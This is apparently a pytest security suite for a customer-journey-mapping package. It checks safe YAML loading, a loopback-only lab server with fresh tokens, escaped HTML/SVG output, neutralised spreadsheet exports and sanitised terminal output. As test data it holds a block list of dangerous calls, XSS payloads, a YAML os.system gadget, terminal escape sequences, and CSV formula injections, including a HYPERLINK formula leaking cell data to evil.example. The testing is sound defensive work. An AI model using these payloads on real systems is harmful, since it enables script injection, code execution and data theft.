"""Security promises of SECURITY.md, each checked against the code or its output.

* The package never runs user data: no eval/exec/pickle/marshal, YAML only through the
  safe loader, subprocesses with argument lists and no shell (an AST scan of cjm_helpers).
* `cjm lab` listens on 127.0.0.1 only and always with a fresh random token.
* Every text field of a project, filled with HTML and script payloads, comes out of every
  HTML renderer as text: no new tags, no event-handler attributes, no javascript: links.
* Every text field filled with spreadsheet formulas comes out of the CSV and XLSX exports
  as text that a spreadsheet will not run.
"""

from __future__ import annotations

import ast
import csv
import io
import re
from collections.abc import Callable, Iterator
from functools import cache, lru_cache
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from pydantic import ValidationError

from cjm_helpers.cli import main
from cjm_helpers.commands import project as project_commands
from cjm_helpers.model import Project
from cjm_helpers.paths import PACKAGE_DIR, PROJECT_ENV, SAMPLE_PROJECT
from cjm_helpers.store import load_project, project_to_data, save_project

# --- the code never runs user data -------------------------------------------------------

BANNED_CALLS = {
    "eval",
    "exec",
    "__import__",
    "pickle.load",
    "pickle.loads",
    "pickle.Unpickler",
    "cPickle.loads",
    "marshal.load",
    "marshal.loads",
    "shelve.open",
    "dill.load",
    "dill.loads",
    "cloudpickle.load",
    "cloudpickle.loads",
    "yaml.unsafe_load",
    "yaml.full_load",
    "yaml.load_all",
    "yaml.unsafe_load_all",
    "os.system",
    "os.popen",
    "os.execv",
    "os.execvp",
    "os.spawnl",
    "pd.read_pickle",
    "pandas.read_pickle",
    "subprocess.getoutput",
    "subprocess.getstatusoutput",
}
UNSAFE_LOADERS = {"Loader", "UnsafeLoader", "FullLoader", "CLoader", "CUnsafeLoader", "CFullLoader"}
SUBPROCESS_CALLS = {
    "subprocess.run",
    "subprocess.call",
    "subprocess.check_call",
    "subprocess.check_output",
    "subprocess.Popen",
}


def dotted(node: ast.AST) -> str:
    if isinstance(node, ast.Name):
        return node.id
    if isinstance(node, ast.Attribute):
        return f"{dotted(node.value)}.{node.attr}"
    return ""


def scan(tree: ast.AST) -> Iterator[tuple[int, str]]:
    """(line, finding) for every unsafe construct in one module."""
    for node in ast.walk(tree):
        if isinstance(node, ast.Import | ast.ImportFrom):
            names = [a.name for a in node.names] + (
                [node.module] if isinstance(node, ast.ImportFrom) else []
            )
            for name in names:
                if name and name.split(".")[0] in {
                    "pickle",
                    "cPickle",
                    "marshal",
                    "shelve",
                    "dill",
                    "cloudpickle",
                }:
                    yield node.lineno, f"imports {name}"
        if (
            isinstance(node, ast.Attribute)
            and node.attr in UNSAFE_LOADERS
            and dotted(node.value) == "yaml"
        ):
            yield node.lineno, f"uses yaml.{node.attr}"
        if not isinstance(node, ast.Call):
            continue
        name = dotted(node.func)
        if name in BANNED_CALLS:
            yield node.lineno, f"calls {name}"
        if name == "yaml.load":
            loader = next(
                (k.value for k in node.keywords if k.arg == "Loader"),
                node.args[1] if len(node.args) > 1 else None,
            )
            if loader is None or dotted(loader).split(".")[-1] not in {"SafeLoader", "CSafeLoader"}:
                yield node.lineno, "calls yaml.load without the safe loader"
        for keyword in node.keywords:
            if keyword.arg == "shell" and not (
                isinstance(keyword.value, ast.Constant) and keyword.value.value is False
            ):
                yield (
                    node.lineno,
                    f"calls {name or 'something'} with shell={ast.unparse(keyword.value)}",
                )
        if (
            name in SUBPROCESS_CALLS
            and node.args
            and isinstance(node.args[0], ast.Constant | ast.JoinedStr | ast.BinOp)
        ):
            yield node.lineno, f"calls {name} with a command string instead of an argument list"


def package_modules() -> list[Path]:
    return sorted(PACKAGE_DIR.rglob("*.py"))


def test_scanner_finds_what_it_looks_for() -> None:
    bad = (
        "import pickle\nimport yaml, subprocess, os\n"
        "eval(x)\nexec(y)\nyaml.load(s)\nyaml.load(s, Loader=yaml.Loader)\nyaml.unsafe_load(s)\n"
        "subprocess.run('ls ' + d, shell=True)\nsubprocess.call(f'rm {x}')\nos.system('x')\n"
        "yaml.load(s, Loader=yaml.SafeLoader)\nsubprocess.run(['ls', d])\n"
    )
    found = sorted(line for line, _ in scan(ast.parse(bad)))
    assert found == [1, 3, 4, 5, 6, 6, 7, 8, 8, 9, 10]


def test_package_never_runs_user_data() -> None:
    findings = []
    for path in package_modules():
        tree = ast.parse(path.read_text(encoding="utf-8"), filename=str(path))
        findings += [f"{path.relative_to(PACKAGE_DIR)}:{line}: {what}" for line, what in scan(tree)]
    assert len(package_modules()) > 20
    assert findings == []


def test_yaml_is_parsed_with_the_safe_loader() -> None:
    from cjm_helpers import yamlio

    assert issubclass(
        yamlio._DateSafeLoader,
        (__import__("yaml").SafeLoader, getattr(__import__("yaml"), "CSafeLoader", object)),
    )
    with pytest.raises(yamlio.YamlError, match="tags such as"):
        yamlio.parse_yaml("!!python/object/apply:os.system ['echo unsafe']")


# --- cjm lab ----------------------------------------------------------------------------------


def test_lab_command_is_loopback_on_one_port_without_the_token() -> None:
    cmd = project_commands.lab_command(SAMPLE_PROJECT, 8899, open_browser=False)
    assert isinstance(cmd, list) and all(isinstance(part, str) for part in cmd)
    assert "--ServerApp.ip=127.0.0.1" in cmd
    assert "--ServerApp.port=8899" in cmd and "--ServerApp.port_retries=0" in cmd
    joined = " ".join(cmd)
    assert "token" not in joined.lower(), (
        "the token is never on a command line (every user can read it)"
    )
    for risky in (
        "0.0.0.0",
        "ip=*",
        "disable_check_xsrf",
        "allow_origin=*",
        "password=",
        "allow_remote_access=True",
    ):
        assert risky not in joined


def test_cjm_lab_starts_with_a_fresh_long_token(
    sample_copy: Path, monkeypatch: pytest.MonkeyPatch, capsys
) -> None:
    calls: list[tuple[list[str], dict[str, str]]] = []
    monkeypatch.setattr(
        project_commands.subprocess, "call", lambda cmd, env: calls.append((cmd, env)) or 0
    )
    monkeypatch.setenv("JUPYTER_TOKEN_FILE", "/somewhere/else")
    port = _free_port()
    assert main(["lab", str(sample_copy), "--no-browser", "--port", str(port)]) == 0
    assert main(["lab", str(sample_copy), "--no-browser", "--port", str(port)]) == 0
    tokens = []
    for cmd, env in calls:
        assert "--ServerApp.ip=127.0.0.1" in cmd and "--no-browser" in cmd
        token = env["JUPYTER_TOKEN"]
        assert re.fullmatch(r"[0-9a-f]{48}", token)
        assert token not in " ".join(cmd)
        assert "JUPYTER_TOKEN_FILE" not in env, "the token we print is the one the server uses"
        assert env[PROJECT_ENV] == str(sample_copy.resolve())
        tokens.append(token)
    assert tokens[0] != tokens[1], "every start gets its own token"
    assert (
        f"http://127.0.0.1:{port}/lab/tree/00_start_here.ipynb?token={tokens[0]}"
        in capsys.readouterr().out
    )


def _free_port() -> int:
    """A port nothing listens on at this moment (the machine is shared)."""
    import socket

    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


def test_cjm_lab_never_hands_the_token_to_whoever_holds_a_busy_port(
    sample_copy: Path, monkeypatch: pytest.MonkeyPatch, capsys
) -> None:
    """Whoever holds the port would otherwise get the printed address with the token."""
    import socket

    started: list[list[str]] = []
    monkeypatch.setattr(
        project_commands.subprocess, "call", lambda cmd, **k: started.append(cmd) or 0
    )
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as holder:
        holder.bind(("127.0.0.1", 0))
        holder.listen(1)
        port = holder.getsockname()[1]
        assert main(["lab", str(sample_copy), "--no-browser", "--port", str(port)]) == 0
    out, _ = capsys.readouterr()
    served = next(p for p in started[0] if p.startswith("--ServerApp.port="))
    assert served != f"--ServerApp.port={port}" and "--ServerApp.port_retries=0" in started[0]
    assert f"127.0.0.1:{port}/" not in out
    assert f"127.0.0.1:{served.split('=')[1]}/lab/tree/00_start_here.ipynb?token=" in out
    assert main(["lab", str(sample_copy), "--no-browser", "--port", "0"]) == 1
    assert "--port 0 is not a port; choose one between 1024 and 65535" in capsys.readouterr().err


def _command_lines() -> list[str]:
    """Every readable /proc/PID/cmdline on the machine, as text."""
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                found.append(
                    (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode("utf-8", "replace")
                )
            except OSError:
                continue
    return found


@pytest.mark.skipif(not Path("/proc/self/cmdline").exists(), reason="needs Linux /proc")
def test_lab_token_is_in_no_command_line(sample_copy: Path, tmp_path: Path) -> None:
    """A real `cjm lab`: its token reaches JupyterLab, but no process's command line shows it."""
    import os
    import signal
    import subprocess
    import sys
    import time
    import urllib.request

    port = _free_port()
    env = dict(
        os.environ,
        JUPYTER_CONFIG_DIR=str(tmp_path / "cfg"),
        JUPYTER_DATA_DIR=str(tmp_path / "data"),
        JUPYTER_RUNTIME_DIR=str(tmp_path / "rt"),
        HOME=str(tmp_path),
    )
    cjm = Path(sys.executable).with_name("cjm")
    proc = subprocess.Popen(
        [str(cjm), "lab", str(sample_copy), "--no-browser", "--port", str(port)],
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        text=True,
        env=env,
        start_new_session=True,
    )
    try:
        token = ""
        for line in proc.stdout:  # type: ignore[union-attr]
            if "token=" in line:
                token = line.strip().rsplit("token=", 1)[1]
                # the port it serves: the one asked for, or the next free one if that was taken
                served = re.search(r"http://127\.0\.0\.1:(\d+)/", line)
                assert served, line
                port = int(served.group(1))
                break
        assert re.fullmatch(r"[0-9a-f]{48}", token)
        deadline = time.monotonic() + 120
        status = None
        while time.monotonic() < deadline and status is None:
            try:
                with urllib.request.urlopen(
                    f"http://127.0.0.1:{port}/api/status?token={token}", timeout=5
                ) as r:
                    status = r.status
            except OSError:
                time.sleep(0.5)
        assert status == 200, "the server accepts the printed token"
        lines = _command_lines()
        assert any("jupyterlab" in line and f"--ServerApp.port={port}" in line for line in lines)
        assert [line for line in lines if token in line] == []
    finally:
        os.killpg(proc.pid, signal.SIGTERM)
        try:
            proc.wait(timeout=30)
        except subprocess.TimeoutExpired:
            os.killpg(proc.pid, signal.SIGKILL)
            proc.wait()


# --- every text field, filled with payloads ------------------------------------------------


def _leaves(data: Any, path: tuple = ()) -> Iterator[tuple[tuple, str]]:
    if isinstance(data, dict):
        for key, value in data.items():
            yield from _leaves(value, (*path, key))
    elif isinstance(data, list):
        for i, value in enumerate(data):
            yield from _leaves(value, (*path, i))
    elif isinstance(data, str):
        yield path, data


def _set(data: Any, path: tuple, value: Any) -> None:
    for part in path[:-1]:
        data = data[part]
    data[path[-1]] = value


@lru_cache(maxsize=1)
def free_text_paths() -> tuple[tuple, ...]:
    """Every string field of the sample that accepts any text (not ids, choices or dates).

    Fill every string at once; the fields pydantic refuses are ids, choices or dates.
    """
    probe = "Any <text> & 'quotes' \"too\""
    paths = {path for path, _ in _leaves(project_to_data(load_project(SAMPLE_PROJECT)))}
    while True:
        data = project_to_data(load_project(SAMPLE_PROJECT))
        for path in paths:
            _set(data, path, probe)
        try:
            Project.model_validate(data)
        except ValidationError as exc:
            refused = {tuple(e["loc"]) for e in exc.errors()}
            assert refused & paths, exc
            paths -= refused
            continue
        return tuple(sorted(paths, key=str))


def filled_project(payload: str) -> Project:
    """The sample project with every free-text field set to ``payload`` (numbered, to tell them apart)."""
    data = project_to_data(load_project(SAMPLE_PROJECT))
    for n, path in enumerate(free_text_paths()):
        _set(data, path, f"{payload} #{n}")
    return Project.model_validate(data)


def test_payload_reaches_the_fields_that_matter() -> None:
    paths = {".".join(str(p) for p in path) for path in free_text_paths()}
    assert len(paths) > 300
    for expected in (
        "name",
        "description",
        "personas.0.name",
        "personas.0.quote",
        "stages.0.name",
        "touchpoints.0.name",
        "journeys.0.name",
        "journeys.0.stages.awareness.actions.0.text",
        "journeys.0.stages.purchase.pain_points.0.text",
        "opportunities.0.title",
        "kpis.0.name",
        "objectives.business_question",
        "objectives.team.0.name",
    ):
        assert expected in paths


HTML_PAYLOADS = [
    '<script>alert("xss1")</script>',
    '"><img src=x onerror=alert(2)>',
    "' onmouseover='alert(3)' data-x='",
    "</style><script>alert(4)</script><style>",
    '<svg/onload=alert(5)><a href="javascript:alert(6)">link</a>',
    "]]></text><script>alert(7)</script><text>",
    "<!-- {0} {journey} %s %(name)s -->",
]


class Markup(HTMLParser):
    """Tags, attributes and text of a page, as a browser would see them."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attrs: list[tuple[str, str]] = []
        self.text: list[str] = []
        self.scripts = 0
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.scripts += tag == "script"
        self.attrs += [(name, value or "") for name, value in attrs]

    handle_startendtag = handle_starttag

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def _diff_html(project: Project) -> str:
    from cjm_helpers.diff import diff_projects

    return diff_projects(load_project(SAMPLE_PROJECT), project).to_html(standalone=True)


def _svg(project: Project) -> str:
    from cjm_helpers.mapping.journey_map import JourneyMap

    return JourneyMap(project).to_bytes("svg").decode("utf-8")


def _form_cards(project: Project) -> str:
    """The filled-in cards the eight step forms show in static exports."""
    import tempfile

    from cjm_helpers.forms import step_form
    from cjm_helpers.store import ProjectStore

    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "p.cjm.yaml"
        save_project(project, path)
        store = ProjectStore(path)
        return "".join(step_form(n, store)._repr_mimebundle_()["text/html"] for n in range(1, 9))


def _renderers() -> dict[str, Callable[[Project], str]]:
    from cjm_helpers.mapping.journey_map import JourneyMap, compare_maps
    from cjm_helpers.report.build import build_report
    from cjm_helpers.views import objective_card_html, persona_cards_html

    return {
        "map-fragment": lambda p: JourneyMap(p, p.journeys[0].id)._repr_html_(),
        "map-future-page": lambda p: JourneyMap(p, p.journeys[1].id).html_document(),
        "compare-page": lambda p: compare_maps(p).html_document(),
        "report": lambda p: build_report(p),
        "diff-page": _diff_html,
        "objective-card": objective_card_html,
        "persona-cards": persona_cards_html,
        "form-cards": _form_cards,
    }


RENDERERS = list(_renderers())
VISIBLE = {
    "map-fragment",
    "map-future-page",
    "compare-page",
    "report",
    "objective-card",
    "persona-cards",
    "diff-page",
    "form-cards",
}


@cache
def clean_markup(renderer: str) -> Markup:
    """The renderer's own markup on harmless text; the diff page compares against the sample,
    so it gets the same edits in plain words (its table appears only when something changed)."""
    project = (
        filled_project("Plain words") if renderer == "diff-page" else load_project(SAMPLE_PROJECT)
    )
    return Markup(_renderers()[renderer](project))


@pytest.mark.parametrize(
    "payload", HTML_PAYLOADS, ids=[f"payload{i}" for i in range(len(HTML_PAYLOADS))]
)
@pytest.mark.parametrize("renderer", RENDERERS)
def test_html_output_shows_payloads_as_text(renderer: str, payload: str) -> None:
    project = filled_project(payload)
    page = _renderers()[renderer](project)
    seen, clean = Markup(page), clean_markup(renderer)

    assert seen.tags <= clean.tags, f"new tags from user text: {seen.tags - clean.tags}"
    assert seen.scripts == clean.scripts
    handlers = [name for name, _ in seen.attrs if name.startswith("on")]
    assert handlers == []
    links = [value for name, value in seen.attrs if value.strip().lower().startswith("javascript:")]
    assert links == []
    if renderer in VISIBLE:
        assert payload.strip() in "".join(seen.text) or payload in " ".join(
            v for _, v in seen.attrs
        ), "the text is shown, escaped, not dropped"


@pytest.mark.parametrize("payload", HTML_PAYLOADS[:3], ids=["payload0", "payload1", "payload2"])
def test_svg_map_keeps_payloads_as_text(payload: str) -> None:
    svg = _svg(filled_project(payload))
    seen = Markup(svg)
    assert "script" not in seen.tags and "img" not in seen.tags
    assert [name for name, _ in seen.attrs if name.startswith("on")] == []


# --- spreadsheet exports --------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '\uff1dHYPERLINK("http://evil.example/?fw","full-width")',
    "  =1+1+cmd|' /C calc'!A0",
    'Pays at the counter;=HYPERLINK("http://evil.example/?semi","x")',
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _csv_cells(raw: bytes) -> list[str]:
    text = raw.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_inert(cells: list[str], where: str) -> None:
    """No cell a spreadsheet would run: not at its start, after blanks, nor after a ';' that splits cells."""
    pieces = [piece.lstrip(" \u00a0\u3000") for c in cells for piece in c.split(";")]
    live = [p for p in pieces if p.startswith(FORMULA_START) and not _is_number(p)]
    assert live == [], f"{where}: cells a spreadsheet would run: {live[:3]}"


@pytest.mark.parametrize("payload", FORMULAS, ids=[f"formula{i}" for i in range(len(FORMULAS))])
@pytest.mark.parametrize("fmt", ["csv", "wide-csv", "xlsx"])
def test_spreadsheet_exports_neutralise_formulas(fmt: str, payload: str, tmp_path: Path) -> None:
    project_file = tmp_path / "p.cjm.yaml"
    data = project_to_data(load_project(SAMPLE_PROJECT))
    for n, path in enumerate(free_text_paths()):
        _set(data, path, payload if n % 2 else f"{payload} #{n}")
    save_project(Project.model_validate(data), project_file)
    out = tmp_path / f"map.{'xlsx' if fmt == 'xlsx' else 'csv'}"

    assert main(["map", str(project_file), "--format", fmt, "--out", str(out)]) == 0
    if fmt == "xlsx":
        book = openpyxl.load_workbook(out)
        cells = []
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (
                        f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                    )
                    if isinstance(cell.value, str):
                        cells.append(cell.value)
    else:
        cells = _csv_cells(out.read_bytes())
    _assert_inert(cells, f"{fmt} export")
    shown = payload.strip()
    assert any(shown in c.replace(";'", ";") for c in cells), (
        "the text is kept (with an apostrophe), not dropped"
    )


# --- the data overlay: event names and channels come straight from the user's log -----------

INJECTED_LOG = """user_id,timestamp,event,channel
u1,2026-10-01 08:00:00,"=HYPERLINK(""http://evil.example/?x=""&A1,""x"")",app
u1,2026-10-01 08:01:00,<script>alert(1)</script>,"<img src=x onerror=alert(2)>"
u1,2026-10-01 08:02:00,payment_success,app
u2,2026-10-01 09:00:00,"@SUM(1+1)*cmd|' /C calc'!A0",web
u2,2026-10-01 09:01:00,"=HYPERLINK(""http://evil.example/?x=""&A1,""x"")",web
u3,2026-10-01 10:00:00,+1+1,"-2+3"
u3,2026-10-01 10:05:00,payment_success,app
"""


def test_overlay_outputs_keep_user_event_names_inert(tmp_path: Path) -> None:
    log = tmp_path / "events.csv"
    log.write_text(INJECTED_LOG, encoding="utf-8")
    out = tmp_path / "overlay"
    assert (
        main(
            [
                "overlay",
                str(log),
                "--project",
                str(SAMPLE_PROJECT),
                "--out",
                str(out),
                "--no-progress",
            ]
        )
        == 0
    )

    tables = sorted(out.glob("*.csv"))
    assert len(tables) >= 5
    cells = [c for table in tables for c in _csv_cells(table.read_bytes())]
    _assert_inert(cells, "overlay CSVs")
    assert any("HYPERLINK" in c for c in cells), "the event names are kept, as text"

    page = Markup((out / "summary.html").read_text(encoding="utf-8"))
    assert page.scripts == 0
    assert [name for name, _ in page.attrs if name.startswith("on")] == []
    sources = [value for name, value in page.attrs if name == "src"]
    assert sources and all(value.startswith("data:image/") for value in sources), (
        "only the embedded figures"
    )


# --- a history folder that is not ours -----------------------------------------------------


def test_save_refuses_a_history_folder_that_is_a_symlink(sample_copy: Path, tmp_path: Path) -> None:
    """A shared project whose .NAME.history points elsewhere must not make a save prune that place."""
    from cjm_helpers.errors import SaveFailed
    from cjm_helpers.store import history_dir

    victim = tmp_path / "someone-elses-folder"
    victim.mkdir()
    names = [f"2026010{i % 9 + 1}T{i:06d}000000Z.yaml" for i in range(60)] + [
        f"notes-{i}.yaml" for i in range(5)
    ]
    for name in names:
        (victim / name).write_text("keep: me\n", encoding="utf-8")
    history_dir(sample_copy).symlink_to(victim)
    before = sample_copy.read_bytes()
    project = load_project(sample_copy)

    with pytest.raises(SaveFailed) as info:
        save_project(project.model_copy(update={"name": "Renamed"}), sample_copy)
    assert str(info.value) == (
        f"{history_dir(sample_copy)}: the history folder of {sample_copy} is a symbolic link to another place; "
        "saving prunes old versions there and could delete files that are not this project's. Nothing was "
        "saved: replace the link with a real folder (or remove it), then save again"
    )
    assert sorted(p.name for p in victim.iterdir()) == sorted(names), (
        "no file of the other folder was deleted"
    )
    assert sample_copy.read_bytes() == before


def test_history_pruning_only_removes_saved_versions(sample_copy: Path) -> None:
    """Pruning keeps the newest versions and never touches a file the store did not name."""
    from cjm_helpers import store

    folder = store.history_dir(sample_copy)
    folder.mkdir()
    (folder / "my-notes.yaml").write_text("mine: true\n", encoding="utf-8")
    project = load_project(sample_copy)
    for n in range(store.HISTORY_KEEP + 3):
        save_project(project.model_copy(update={"name": f"Version {n}"}), sample_copy)
    assert (folder / "my-notes.yaml").read_text(encoding="utf-8") == "mine: true\n"
    assert (
        len([p for p in folder.glob("*.yaml") if p.name != "my-notes.yaml"]) == store.HISTORY_KEEP
    )


# --- no command writes over its inputs -------------------------------------------------------


def test_overlay_knows_every_file_it_writes(tmp_path: Path) -> None:
    """`cjm overlay` checks its outputs against its inputs by name, so the list must be complete."""
    from cjm_helpers.commands.overlay import overlay_outputs
    from cjm_helpers.paths import SAMPLE_EVENTS, SAMPLE_SURVEY, SAMPLE_TICKETS

    out = tmp_path / "overlay"
    assert (
        main(
            [
                "overlay",
                str(SAMPLE_EVENTS),
                "--survey",
                str(SAMPLE_SURVEY),
                "--tickets",
                str(SAMPLE_TICKETS),
                "--project",
                str(SAMPLE_PROJECT),
                "--out",
                str(out),
                "--no-progress",
            ]
        )
        == 0
    )
    written = {p.name for p in out.iterdir()}
    assert written and written <= {p.name for p in overlay_outputs(out)}, written - {
        p.name for p in overlay_outputs(out)
    }
    assert {"tickets.csv", "segments.csv", "emotion_curve.csv"} <= written


# --- cjm run --out removes only what an earlier run wrote ---------------------------------------


def test_run_into_an_earlier_runs_folder_keeps_the_users_own_files(
    sample_copy: Path, tmp_path: Path
) -> None:
    """The second run replaces the first run's files and leaves the user's notebook and page alone."""
    from run_fakes import fake_notebook

    nbs = tmp_path / "nbs"
    fake_notebook(nbs, "01_objectives", "Objectives", ["print('ok')"])
    fake_notebook(nbs, "02_personas", "Personas", ["print('ok')"])
    out = tmp_path / "W"
    args = ["run", str(sample_copy), "--out", str(out), "--notebooks", str(nbs), "--no-progress"]
    assert main(args) == 0
    assert (out / ".cjm-run.json").is_file() and (out / "notebooks" / "02_personas.ipynb").is_file()
    mine = {
        out / "notebooks" / "01_my_own_analysis.ipynb": b"{}",
        out / "html" / "my_page.html": b"<p>mine</p>",
        out / "notes.txt": b"keep",
    }
    for path, data in mine.items():
        path.write_bytes(data)
    (nbs / "02_personas.ipynb").unlink()  # the second run makes fewer notebooks

    assert main(args) == 0
    for path, data in mine.items():
        assert path.read_bytes() == data, f"{path.name} was not the run's to remove"
    assert not (out / "notebooks" / "02_personas.ipynb").exists(), (
        "the earlier run's own files are replaced"
    )
    assert (out / "notebooks" / "01_objectives.ipynb").is_file() and (out / "report.html").is_file()


# --- long text costs time in proportion to its length ---------------------------------------------


def _clip_by_trimming(text: str, width_in: float, size: float, bold: bool) -> str:
    """The obvious way to clip (trim one letter at a time), kept here as the reference answer."""
    from cjm_helpers.mapping.figure import FIT_MARGIN, text_width

    text = " ".join(text.split())
    width_in *= FIT_MARGIN
    if text_width(text, size, bold) <= width_in:
        return text
    while text and text_width(text + "…", size, bold) > width_in:
        text = text[:-1]
    return text.rstrip() + "…"


@pytest.mark.parametrize(
    "text",
    [
        "",
        "short",
        "Rina wants  to pay\\nat the counter",
        "W" * 80,
        "żółć " * 30,
        "a " * 200,
        "漢字" * 40,
        "x" * 3 + " " * 50 + "y",
    ],
)
@pytest.mark.parametrize("width", [0.05, 0.8, 2.5])
def test_clip_gives_the_same_line_as_trimming(text: str, width: float) -> None:
    from cjm_helpers.mapping.figure import clip

    for bold in (False, True):
        assert clip(text, width, 8.0, bold) == _clip_by_trimming(text, width, 8.0, bold)


def test_clip_measures_each_letter_once(monkeypatch: pytest.MonkeyPatch) -> None:
    """A long persona quote is measured in one pass (it used to be re-measured once per letter cut)."""
    from cjm_helpers.mapping import figure

    measured = 0
    real = figure._advance

    def counting(ch: str, bold: bool) -> float:
        nonlocal measured
        measured += 1
        return real(ch, bold)

    monkeypatch.setattr(figure, "_advance", counting)
    quote = "I just want to pay without queueing twice " * 100  # 4,200 letters
    line = figure.clip(quote, 3.0)
    assert line.endswith("…") and len(line) < 100
    assert measured <= len(quote) + 1, f"{measured:,} glyph measurements for {len(quote):,} letters"


# --- Mermaid keeps every task -------------------------------------------------------------------


@pytest.mark.parametrize("percent", ["%%", "%%%", "%%%%%", "a%%%b", "100%%% sure %% %%%"])
def test_mermaid_never_writes_a_comment_from_user_text(percent: str) -> None:
    """'%%' starts a Mermaid comment, which would drop the task; no run of '%' may leave one."""
    from cjm_helpers.mapping.mermaid import journey_mermaid

    data = project_to_data(load_project(SAMPLE_PROJECT))
    journey = data["journeys"][0]
    stage = next(iter(journey["stages"]))
    journey["stages"][stage]["actions"][0]["text"] = f"Pays {percent} cash"
    text = journey_mermaid(Project.model_validate(data), journey["id"])
    assert "%%" not in text
    assert any(
        line.strip().startswith("Pays ") and "cash: " in line for line in text.splitlines()
    ), text


# --- offline pages rewrite real attributes only ------------------------------------------------------


def test_strip_external_leaves_text_that_looks_like_an_attribute() -> None:
    """User text such as 'src=https://…' is shown as written; only real attributes lose their address."""
    from cjm_helpers.export import external_references, strip_external

    page = (
        '<html><head><link rel="stylesheet" href="https://cdn.example/x.css"></head><body>'
        '<p>Our old form said src=https://shop.example/a.png and href="http://x.example"</p>'
        '<img title="copied from src=https://shop.example/b.png" src="https://cdn.example/b.png" alt="b">'
        '<a href="#top" style="background: url(http://t.example/p.gif)">top</a>'
        '<pre>style="url(http://t.example/q.gif)"</pre></body></html>'
    )
    out = strip_external(page)
    assert external_references(out) == []
    assert (
        '<p>Our old form said src=https://shop.example/a.png and href="http://x.example"</p>' in out
    )
    assert (
        '<img title="copied from src=https://shop.example/b.png" data-cjm-offline="1" alt="b">'
        in out
    )
    assert '<a href="#top" style="background: none">top</a>' in out
    assert '<pre>style="url(http://t.example/q.gif)"</pre>' in out
    assert '<link rel="stylesheet" data-cjm-offline="1">' in out


# --- terminal output ---------------------------------------------------------------------------------


ESCAPES = "\x1b[2J\x1b[H\x1b]0;owned\x07\rfake line\x9b31m\u202egnp.exe"


def test_cjm_diff_never_prints_escape_codes(sample_copy: Path, tmp_path: Path, capsys) -> None:
    """Names from a project reach the terminal with every control character made visible."""
    data = project_to_data(load_project(sample_copy))
    data["personas"].append({**data["personas"][0], "id": "twin", "name": "Rina" + ESCAPES})
    data["touchpoints"].append(
        {**data["touchpoints"][0], "id": "kiosk", "name": "Kiosk\nreview: done" + ESCAPES}
    )
    newer = tmp_path / "newer.cjm.yaml"
    save_project(Project.model_validate(data), newer)

    assert main(["diff", str(sample_copy), str(newer)]) == 0
    out = capsys.readouterr().out
    assert re.findall(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e]", out) == []
    assert "Rina\\x1b[2J\\x1b[H\\x1b]0;owned\\x07 fake line\\x9b31m\\u202egnp.exe" in out
    assert "Kiosk review: done" in out, "a line break inside a value does not start a new line"


def test_error_messages_never_print_escape_codes(tmp_path: Path, capsys) -> None:
    bad = tmp_path / ("bad\x1b[2J.cjm.yaml")
    bad.write_text("name: [\n", encoding="utf-8")
    assert main(["validate", str(bad)]) == 1
    assert main(["map", str(bad), "--out", str(tmp_path / "m.html")]) == 1
    captured = capsys.readouterr()
    assert "\x1b" not in captured.out + captured.err
    assert "bad\\x1b[2J.cjm.yaml" in captured.err


@pytest.mark.parametrize("payload", FORMULAS, ids=[f"formula{i}" for i in range(len(FORMULAS))])
def test_neutralised_cells_read_back_as_written(payload: str) -> None:
    """The wide-CSV import removes exactly the apostrophes the export added."""
    from cjm_helpers.mapping.tabular import neutralise
    from cjm_helpers.mapping.wide_import import unguard

    assert neutralise(payload) != payload
    assert unguard(neutralise(payload)) == payload


# --- a '$' in user text is drawn as typed --------------------------------------------------------------

MATH = r"$\frac$"


def test_views_draw_dollar_text_as_typed() -> None:
    """A channel or opportunity title like '$\\frac$' is text, not mathtext that fails to parse."""
    import matplotlib

    matplotlib.use("Agg")
    from cjm_helpers import views

    data = project_to_data(load_project(SAMPLE_PROJECT))
    for touchpoint in data["touchpoints"]:
        touchpoint["channel"] = MATH
    for opportunity in data["opportunities"]:
        opportunity["title"] = f"{MATH} {opportunity['title']}"
    project = Project.model_validate(data)
    for figure in (views.inventory_figure(project), views.impact_effort_figure(project)):
        figure.savefig(io.BytesIO(), format="png")
        shown = [text.get_text() for text in figure.findobj(matplotlib.text.Text)]
        assert any(MATH in text for text in shown)


def test_overlay_plots_draw_dollar_names_as_typed(tmp_path: Path) -> None:
    from cjm_helpers.paths import SAMPLE_EVENTS, SAMPLE_SURVEY

    events = tmp_path / "events.csv"
    lines = SAMPLE_EVENTS.read_text(encoding="utf-8").splitlines()
    events.write_text("\n".join(lines[:400]) + "\n", encoding="utf-8")
    survey = tmp_path / "survey.csv"
    rows = SAMPLE_SURVEY.read_text(encoding="utf-8").splitlines()
    survey.write_text(
        "\n".join([rows[0], *[r.replace("Commuting office worker", MATH) for r in rows[1:]]])
        + "\n",
        encoding="utf-8",
    )
    assert MATH in survey.read_text(encoding="utf-8")
    out = tmp_path / "overlay"
    assert (
        main(
            [
                "overlay",
                str(events),
                "--survey",
                str(survey),
                "--project",
                str(SAMPLE_PROJECT),
                "--funnel",
                f"app_open,{MATH}",
                "--out",
                str(out),
                "--no-progress",
            ]
        )
        == 0
    )
    assert (out / "segments.png").is_file() and (out / "funnel.png").is_file()


